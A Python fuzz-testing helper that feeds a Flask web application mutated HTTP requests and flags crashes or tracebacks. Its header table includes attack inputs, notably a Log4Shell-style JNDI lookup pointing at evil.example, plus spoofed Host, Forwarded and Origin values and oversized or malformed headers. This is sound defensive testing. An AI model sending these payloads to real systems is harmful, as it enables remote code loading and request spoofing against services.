"""Requests as a web server hands them on, and what came of them."""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from io import BytesIO, StringIO
from typing import Any
from urllib.parse import unquote_plus, unquote_to_bytes, urlsplit

from flask import Flask
from structlog.testing import capture_logs
from werkzeug.test import run_wsgi_app
from werkzeug.wrappers import Request

from tests.fuzz.edits import BYTES, Change, Edit, apply

FORM = "application/x-www-form-urlencoded"
_ACTION = re.compile(r'<form method="post" action="([^"]*)"|http-equiv="refresh" content="[^"]*url=([^"]*)"')


@dataclass(frozen=True, kw_only=True)
class Sent:
    """One request, before the web server took it apart."""

    method: str = "GET"
    path: str = "/"
    query: bytes = b""
    headers: Mapping[str, str]
    body: bytes = b""


@dataclass(frozen=True, kw_only=True)
class Outcome:
    """What came back. leads_to: where the browser would go next; broken: why it is a failure."""

    status: int
    leads_to: tuple[str, ...] = ()
    broken: str = ""
    text: str = ""


def environ_of(sent: Sent) -> dict[str, Any]:
    """Return the WSGI environment, as gunicorn makes it (PEP 3333: text that is really bytes)."""
    headers = {
        f"HTTP_{name.upper().replace('-', '_')}": _latin(value) for name, value in sent.headers.items()
    }
    environ: dict[str, Any] = {
        "REQUEST_METHOD": sent.method,
        "SCRIPT_NAME": "",
        "PATH_INFO": unquote_to_bytes(sent.path).decode("latin-1"),
        "QUERY_STRING": sent.query.decode("latin-1"),
        "SERVER_NAME": "127.0.0.1",
        "SERVER_PORT": "8000",
        "SERVER_PROTOCOL": "HTTP/1.1",
        "REMOTE_ADDR": "127.0.0.1",
        "CONTENT_LENGTH": str(len(sent.body)),
        "wsgi.version": (1, 0),
        "wsgi.url_scheme": "https",
        "wsgi.input": BytesIO(sent.body),
        "wsgi.errors": StringIO(),
        "wsgi.multithread": True,
        "wsgi.multiprocess": True,
        "wsgi.run_once": False,
        **headers,
    }
    for name in ("CONTENT_TYPE", "CONTENT_LENGTH"):
        if f"HTTP_{name}" in environ:
            environ[name] = environ.pop(f"HTTP_{name}")
    return environ


def _latin(value: str) -> str:
    # A server refuses control characters; everything else arrives as bytes of some encoding.
    plain = "".join(letter for letter in value if letter.isprintable() or letter == "\t")
    return plain.encode("utf-8", "replace").decode("latin-1").strip()


def send(app: Flask, sent: Sent) -> Outcome:
    """Have the application answer, and look at the answer and at what was logged meanwhile."""
    with capture_logs() as logs:
        chunks, status, headers = run_wsgi_app(app, environ_of(sent), buffered=True)
        body = b"".join(chunks).decode("utf-8", "replace")
    code = int(status.split()[0])
    unforeseen = [str(line.get("exception", "")) for line in logs if line["event"] == "unforeseen"]
    broken = "\n".join(unforeseen)
    unfit = code == 500 and "<S:Fault>" not in body  # a fault comes with 500 (SOAP 1.1 section 6.2)
    if not broken and (unfit or "Traceback (most recent call last)" in body):
        broken = f"{status}: {body[:2000]}"
    found = [html.unescape(one or other) for one, other in _ACTION.findall(body)]
    location = headers.get("Location")
    leads_to = (*([location] if location else []), *found)
    return Outcome(status=code, leads_to=leads_to, broken=broken, text=body)


def onward(sent: Sent, outcome: Outcome) -> Sent:
    """Return what the browser asks for next, when the answer leads to a page of ours."""
    parts = urlsplit(outcome.leads_to[0])
    kept = {name: value for name, value in sent.headers.items() if name in {"Host", "Cookie"}}
    return Sent(path=parts.path, query=parts.query.encode(), headers=kept)


def form_in(sent: Sent) -> Mapping[str, str]:
    """Return a form as the application reads it."""
    return Request(environ_of(sent)).form.to_dict()


def header_in(sent: Sent, name: str) -> str:
    """Return a header as the application reads it."""
    return Request(environ_of(sent)).headers[name]


# Changes to the envelope ----------------------------------------------------------------------
_HEADERS: Mapping[str, Sequence[str]] = {
    "Host": (
        "evil.example",
        "id.example:443",
        "id.example:99999",
        "a b",
        "[::1",
        "",
        "ＩＤ.example",
        "a" * 300,
    ),
    "X-Forwarded-For": (
        "a",
        "127.0.0.1",
        "fe80::1%eth0",
        "[::1]:80, 10.0.0.1",
        ",,,",
        "10.0.0.1," * 200,
        "1.2.3.4:x",
    ),
    "X-Forwarded-Host": ("evil.example", "a, b"),
    "X-Forwarded-Proto": ("http", "javascript"),
    "Forwarded": ("for=evil;host=evil.example",),
    "Content-Type": (
        "multipart/form-data",
        "multipart/form-data; boundary=x",
        "multipart/form-data; boundary=" + "x" * 200,
        f"{FORM}; charset=utf-16",
        f"{FORM}; charset=nonsense",
        "application/json",
        "text/plain",
        "a/b; x*=utf-8''%ff",
        ";;;",
        "",
    ),
    "Content-Length": ("0", "1", "999999999", "10"),
    "Authorization": (
        "Basic",
        "Basic d2lraQ==",
        "Basic d2lraTo=",
        "Basic /////w==",
        "Basic d2lraTphLXNlY3JldA==",
        "Bearer",
        "Bearer x y",
        "Bearer " + "x" * 5000,
        'Digest username="a',
        "é",
    ),
    "Accept-Language": ("*", "ar", "en;q=x", "xx-" * 2000, "de-\u0130,en;q=2", ";;,,"),
    "Accept": ("*/*;q=0", "text/html;level=x", ",", "x/y;" * 500),
    "Accept-Encoding": ("gzip;q=0, *;q=0", "x" * 900),
    "Origin": ("null", "https://evil.example", "https://id.example", "é"),
    "Referer": ("https://evil.example/" + "x" * 3000,),
    "Sec-Fetch-Site": ("cross-site", "same-origin", "none", "x"),
    "Sec-Fetch-Mode": ("navigate", "x"),
    "User-Agent": ("", "x" * 6000, "é\u202e", "${jndi:ldap://evil.example/a}"),
    "If-None-Match": ("*", '"', 'W/"x", "y', "x" * 3000),
    "If-Modified-Since": ("x", "Thu, 01 Jan 1970 00:00:00 GMT", "Thu, 99 Jan 9999 99:99:99 GMT"),
    "If-Range": ("x", '"x"'),
    "Range": ("bytes=0-1", "bytes=-", "bytes=5-1", "bytes=0-99999999999999999999", "x=1", "bytes=0-1,5-9"),
    "Expect": ("100-continue", "x"),
    "X-Correlation-Id": ("x" * 500,),
    "Cookie": (
        "a",
        "=;=",
        "a=b;" * 3000,
        '__Host-countersign-session="\\377"',
        "__Host-countersign-session=é",
    ),
}
_NAMES = sorted(_HEADERS)
_METHODS = ("GET", "POST", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "get", "X")


def _with_header(sent: Sent, name: str, value: str) -> Sent:
    return _replaced(sent, headers={**sent.headers, name: value})


def _replaced(sent: Sent, **fields: Any) -> Sent:
    return Sent(**{**vars(sent), **fields})


def _known_header(sent: Sent, place: int, text: str) -> Sent:
    name = _NAMES[place % len(_NAMES)]
    values = _HEADERS[name]
    return _with_header(sent, name, values[place // len(_NAMES) % len(values)])


def _texted_header(sent: Sent, place: int, text: str) -> Sent:
    return _with_header(sent, _NAMES[place % len(_NAMES)], text)


def _cookie(change: Callable[[bytes, int, str], bytes]) -> Change[Sent]:
    def changed(sent: Sent, place: int, text: str) -> Sent:
        cookie = change(sent.headers.get("Cookie", "a=b").encode("utf-8", "replace"), place, text)
        return _with_header(sent, "Cookie", cookie.decode("utf-8", "replace"))

    return changed


def _path(sent: Sent, place: int, text: str) -> Sent:
    path = BYTES["insert"](sent.path.encode(), 1 + place % len(sent.path), text)
    return _replaced(sent, path="/" + path.decode("utf-8", "replace").lstrip("/"))


_PARTS = (
    'Content-Disposition: form-data; name="{name}"',
    'Content-Disposition: form-data; name="{name}"; filename="x"\r\nContent-Type: text/plain',
    "Content-Disposition: form-data; name*=utf-8''%ff{name}",
    'Content-Disposition: form-data; name="{name}"\r\nContent-Type: text/plain; charset=nonsense',
    "Content-Disposition: attachment",
)


def _multipart(sent: Sent, place: int, text: str) -> Sent:
    """Return the form in its other encoding (RFC 7578), with one of its parts written strangely."""
    pairs = [pair.partition("=") for pair in sent.body.decode("latin-1").split("&")]
    body = ""
    for number, (name, _, value) in enumerate(pairs):
        head = _PARTS[place // 7 % len(_PARTS) if number == place % len(pairs) else 0]
        body += f"--x\r\n{head.format(name=name)}\r\n\r\n{unquote_plus(value)}\r\n"
    end = "" if place % 11 == 0 else "--x--" + text
    form = _with_header(sent, "Content-Type", "multipart/form-data; boundary=x")
    return _replaced(form, body=(body + end).encode("utf-8", "replace"))


ENVELOPE: Mapping[str, Change[Sent]] = {
    "multipart": _multipart,
    "header": _known_header,
    "header-text": _texted_header,
    "no-cookies": lambda sent, _place, _text: _with_header(sent, "Cookie", ""),
    "cookie-insert": _cookie(BYTES["insert"]),
    "cookie-drop": _cookie(BYTES["drop"]),
    "cookie-twice": _cookie(lambda data, _place, _text: data + b"; " + data),
    "method": lambda sent, place, _text: _replaced(sent, method=_METHODS[place % len(_METHODS)]),
    "path": _path,
    "query": lambda sent, place, text: _replaced(sent, query=BYTES["insert"](sent.query, place, text)),
    "body": lambda sent, place, text: _replaced(sent, body=BYTES["insert"](sent.body, place, text)),
    "empty": lambda sent, _place, _text: _replaced(sent, query=b"", body=b""),
    "both": lambda sent, _place, _text: _replaced(
        sent, query=sent.query or sent.body, body=sent.body or sent.query
    ),
}


def changed(sent: Sent, chosen: Sequence[Edit]) -> Sent:
    """Return the request with the edits of its envelope, and with its query and body changed as bytes."""
    query = apply(BYTES, sent.query, chosen, "query")
    body = apply(BYTES, sent.body, chosen, "body")
    return apply(ENVELOPE, _replaced(sent, query=query, body=body), chosen, "envelope")
